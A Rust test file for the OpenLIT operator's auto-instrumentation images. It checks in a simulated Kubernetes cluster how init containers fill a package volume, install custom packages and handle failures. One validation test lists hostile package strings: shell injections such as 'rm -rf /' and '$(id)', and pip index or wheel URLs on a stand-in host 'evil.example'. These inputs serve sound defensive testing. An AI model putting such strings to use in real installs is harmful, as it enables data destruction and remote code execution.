//! The provider images in the simulator: a pod mutated by the injection core runs the simulated
//! init container, whose catalogue entry is derived from `operator/providers`, and the application
//! container sees what the real setup program leaves in the volume. The real setup program (with
//! python3) and the simulated one are run on the same failing inputs and must print the same.

use std::time::Duration;

use features::provider_images::{Catalogue, FAILURE_MARKER, provider_images};
use k8s_openapi::api::core::v1::Pod;
use kube::api::{Api, PostParams};
use kubesim::{Exit, Image, Simulator};
use openlit_operator::crd::AutoInstrumentation;
use openlit_operator::inject::{InjectConfig, Policy, mutate};
use serde_json::{Value, json};

const VOLUME: &str = "/instrumentation-packages";

fn instrumented_pod(provider: &str, extra: &str) -> Value {
    let resource: AutoInstrumentation = serde_saphyr::from_str(&format!(
        "apiVersion: openlit.io/v1alpha1\nkind: AutoInstrumentation\nmetadata:\n  name: ai\n  namespace: default\nspec:\n  selector:\n    matchLabels:\n      app: chat\n  python:\n    instrumentation:\n      provider: {provider}\n{extra}  otlp:\n    endpoint: http://collector:4318\n"
    ))
    .unwrap();
    let policy = Policy::compile(&resource, "ghcr.io/openlit");
    assert!(policy.errors.is_empty(), "{:?}", policy.errors);
    let mut pod = json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "chat", "namespace": "default", "labels": {"app": "chat"}},
        "spec": {"containers": [{"name": "api", "image": "example.com/chat:1", "command": ["python3", "app.py"]}]}
    });
    let mutation = mutate(&pod, "default", [&policy], &InjectConfig::default());
    json_patch_apply(&mut pod, &mutation.patch);
    pod
}

fn json_patch_apply(pod: &mut Value, patch: &[json_patch::PatchOperation]) {
    json_patch::patch(pod, patch).unwrap();
}

/// An application image that reports what it finds in the volume.
fn application_image() -> Image {
    Image::new("example.com/chat:1").program(|p| {
        let files = p.fs.list(VOLUME);
        p.println(format!("files={}", files.len()));
        p.println(format!(
            "PYTHONPATH={}",
            p.env.get("PYTHONPATH").cloned().unwrap_or_default()
        ));
        Exit::Running
    })
}

async fn pod_status(pods: &Api<Pod>, name: &str, done: impl Fn(&Pod) -> bool) -> Pod {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
    loop {
        let pod = pods.get(name).await.unwrap();
        if done(&pod) {
            return pod;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "pod {name} never reached the expected state: {:?}",
            pod.status
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

fn phase(pod: &Pod) -> &str {
    pod.status
        .as_ref()
        .and_then(|s| s.phase.as_deref())
        .unwrap_or_default()
}

async fn simulator(catalogue: &Catalogue) -> Simulator {
    let sim = Simulator::start().await.unwrap();
    for image in catalogue.images("ghcr.io/openlit").unwrap() {
        sim.register_image(image);
    }
    sim.register_image(application_image());
    sim
}

#[tokio::test]
async fn every_provider_image_fills_the_volume_the_application_reads() {
    let sim = simulator(&Catalogue::new()).await;
    let pods: Api<Pod> = Api::namespaced(sim.client().unwrap(), "default");
    for provider in ["openlit", "openinference", "openllmetry"] {
        let mut pod = instrumented_pod(provider, "");
        let name = format!("chat-{provider}");
        pod["metadata"]["name"] = json!(name);
        pods.create(
            &PostParams::default(),
            &serde_json::from_value(pod).unwrap(),
        )
        .await
        .unwrap();
        pod_status(&pods, &name, |p| phase(p) == "Running").await;
        let init = sim
            .container(
                "default",
                &name,
                &format!("auto-instrumentation-{provider}"),
            )
            .unwrap();
        assert_eq!(init.exit, Some(0), "{}", init.logs);
        assert!(
            init.logs.contains(&format!(
                "setup-instrumentation: ready: {provider} instrumentation for CPython 3.11"
            )),
            "{}",
            init.logs
        );
        let app = sim.container("default", &name, "api").unwrap();
        let real = std::fs::read_to_string(format!(
            "{}/../operator/providers/{provider}/sitecustomize.py",
            env!("CARGO_MANIFEST_DIR")
        ))
        .unwrap();
        assert_eq!(
            app.file(&format!("{VOLUME}/sitecustomize.py")),
            Some(real),
            "the volume holds the provider's own sitecustomize.py"
        );
        assert!(
            app.file(&format!("{VOLUME}/_instrumentation_bootstrap.py"))
                .is_some()
        );
        assert_eq!(
            app.file(&format!("{VOLUME}/.instrumentation-python"))
                .as_deref(),
            Some("3.11\n")
        );
        let lock = std::fs::read_to_string(format!(
            "{}/../operator/providers/{provider}/requirements.txt",
            env!("CARGO_MANIFEST_DIR")
        ))
        .unwrap();
        let pinned = lock
            .lines()
            .filter(|l| l.contains("==") && !l.starts_with([' ', '#']))
            .count();
        let dist_infos: Vec<String> = app
            .files(VOLUME)
            .into_iter()
            .filter(|f| f.ends_with(".dist-info/METADATA"))
            .collect();
        assert_eq!(
            dist_infos.len(),
            pinned,
            "one package per pinned line of the lock"
        );
        assert!(app.logs.contains("PYTHONPATH=/instrumentation-packages"));
    }
}

#[tokio::test]
async fn custom_packages_are_installed_and_failures_block_or_continue() {
    let catalogue = Catalogue::new().without_package("no-such-package");
    let sim = simulator(&catalogue).await;
    let pods: Api<Pod> = Api::namespaced(sim.client().unwrap(), "default");

    // A valid requirement with `>=` is installed.
    let mut pod = instrumented_pod(
        "openinference",
        "      customPackages: langchain-core>=0.3, tenacity\n",
    );
    pod["metadata"]["name"] = json!("valid");
    pods.create(
        &PostParams::default(),
        &serde_json::from_value(pod).unwrap(),
    )
    .await
    .unwrap();
    pod_status(&pods, "valid", |p| phase(p) == "Running").await;
    let init = sim
        .container("default", "valid", "auto-instrumentation-openinference")
        .unwrap();
    assert!(
        init.logs
            .contains("installing custom packages: langchain-core>=0.3, tenacity"),
        "{}",
        init.logs
    );
    let app = sim.container("default", "valid", "api").unwrap();
    assert_eq!(
        app.file(&format!("{VOLUME}/langchain_core-0.dist-info/REQUESTED"))
            .as_deref(),
        Some("langchain-core>=0.3\n")
    );

    // An unavailable package blocks the pod when onFailure is block.
    let mut pod = instrumented_pod(
        "openlit",
        "      onFailure: block\n      customPackages: no-such-package>=1\n",
    );
    pod["metadata"]["name"] = json!("blocked");
    pods.create(
        &PostParams::default(),
        &serde_json::from_value(pod).unwrap(),
    )
    .await
    .unwrap();
    let blocked = pod_status(&pods, "blocked", |p| {
        p.status
            .as_ref()
            .and_then(|s| s.init_container_statuses.as_ref())
            .is_some_and(|s| s.iter().any(|c| c.restart_count >= 1))
    })
    .await;
    assert_eq!(phase(&blocked), "Pending");
    let init = sim
        .container("default", "blocked", "auto-instrumentation-openlit")
        .unwrap();
    assert_eq!(init.exit, Some(1));
    assert!(
        init.logs
            .contains("instrumentation setup failed: pip could not install no-such-package>=1")
            && init
                .logs
                .contains("onFailure is block: the pod will not start"),
        "{}",
        init.logs
    );
    assert!(sim.container("default", "blocked", "api").is_none());

    // With continue the application starts uninstrumented, the marker saying why.
    let mut pod = instrumented_pod(
        "openlit",
        "      onFailure: continue\n      customPackages: no-such-package>=1\n",
    );
    pod["metadata"]["name"] = json!("continued");
    pods.create(
        &PostParams::default(),
        &serde_json::from_value(pod).unwrap(),
    )
    .await
    .unwrap();
    pod_status(&pods, "continued", |p| phase(p) == "Running").await;
    let app = sim.container("default", "continued", "api").unwrap();
    let marker = app.file(&format!("{VOLUME}/{FAILURE_MARKER}")).unwrap();
    assert!(
        marker.starts_with("pip could not install no-such-package>=1"),
        "{marker}"
    );
    let mut left = app.files(VOLUME);
    left.sort();
    assert_eq!(
        left,
        [
            format!("{VOLUME}/{FAILURE_MARKER}"),
            format!("{VOLUME}/_instrumentation_bootstrap.py"),
            format!("{VOLUME}/sitecustomize.py"),
        ],
        "no package is left to shadow the application's"
    );
}

/// The same failing invocations through the real setup program and the simulated one print the
/// same failure lines. Needs python3, and fails saying how to install it when it is absent.
#[test]
fn the_simulated_setup_program_says_what_the_real_one_says() {
    let python = std::process::Command::new("python3")
        .arg("--version")
        .output();
    assert!(
        python.is_ok_and(|o| o.status.success()),
        "python3 (CPython 3.11 or newer) is needed to compare the real setup program and was not \
         found on PATH: install it (Debian/Ubuntu: apt-get install python3)"
    );
    let images = provider_images("ghcr.io/openlit").unwrap();
    assert_eq!(images.len(), 4);
    let cases = [
        "requests; rm -rf /",
        "--index-url=http://evil.example/simple",
        "evil @ https://evil.example/evil.whl",
        "requests $(id)",
        "requests>=",
        "requests[security",
        "requests (>=1",
        "café",
        "requests; python_version >= '3.9' and",
    ];
    for case in cases {
        let scratch = tempfile::tempdir().unwrap();
        let source = scratch.path().join("source");
        std::fs::create_dir_all(&source).unwrap();
        std::fs::write(source.join("sitecustomize.py"), "").unwrap();
        let output = std::process::Command::new("python3")
            .arg(format!(
                "{}/../operator/providers/base/setup-instrumentation.py",
                env!("CARGO_MANIFEST_DIR")
            ))
            .args(["--target"])
            .arg(scratch.path().join("volume"))
            .args(["--on-failure", "block", "--source"])
            .arg(&source)
            .args(["--package", case])
            .output()
            .unwrap();
        let real: Vec<String> = String::from_utf8_lossy(&output.stderr)
            .lines()
            .map(str::to_string)
            .collect();
        let simulated = run_simulated(&["--package", case]);
        assert_eq!(output.status.code(), Some(1), "{case}: {real:?}");
        assert_eq!(simulated.0, Some(1));
        assert_eq!(real.len(), 2, "{case}: {real:?}");
        assert_eq!(simulated.1, real, "{case}");
    }
}

/// Runs the simulated openlit image's program with a fresh volume and these arguments.
fn run_simulated(args: &[&str]) -> (Option<i32>, Vec<String>) {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    runtime.block_on(async {
        let sim = simulator(&Catalogue::new()).await;
        let pods: Api<Pod> = Api::namespaced(sim.client().unwrap(), "default");
        let mut full: Vec<String> = vec![
            "--target".into(),
            VOLUME.into(),
            "--on-failure".into(),
            "block".into(),
        ];
        full.extend(args.iter().map(|a| a.to_string()));
        let pod = json!({
            "metadata": {"name": "p"},
            "spec": {
                "volumes": [{"name": "v", "emptyDir": {}}],
                "initContainers": [{"name": "setup", "image": "ghcr.io/openlit/openlit-ai-instrumentation:latest",
                    "command": ["python3", "/usr/local/bin/setup-instrumentation.py"], "args": full,
                    "volumeMounts": [{"name": "v", "mountPath": VOLUME}]}],
                "containers": [{"name": "api", "image": "example.com/chat:1"}]
            }
        });
        pods.create(&PostParams::default(), &serde_json::from_value(pod).unwrap())
            .await
            .unwrap();
        pod_status(&pods, "p", |p| {
            p.status
                .as_ref()
                .and_then(|s| s.init_container_statuses.as_ref())
                .is_some_and(|s| s.iter().any(|c| c.restart_count >= 1 || c.state.as_ref().is_some_and(|st| st.terminated.is_some())))
        })
        .await;
        let init = sim.container("default", "p", "setup").unwrap();
        let lines: Vec<String> = init
            .logs
            .lines()
            .filter(|l| {
                l.starts_with("setup-instrumentation: instrumentation setup failed")
                    || l.starts_with("setup-instrumentation: onFailure")
            })
            .take(2)
            .map(str::to_string)
            .collect();
        (init.exit, lines)
    })
}
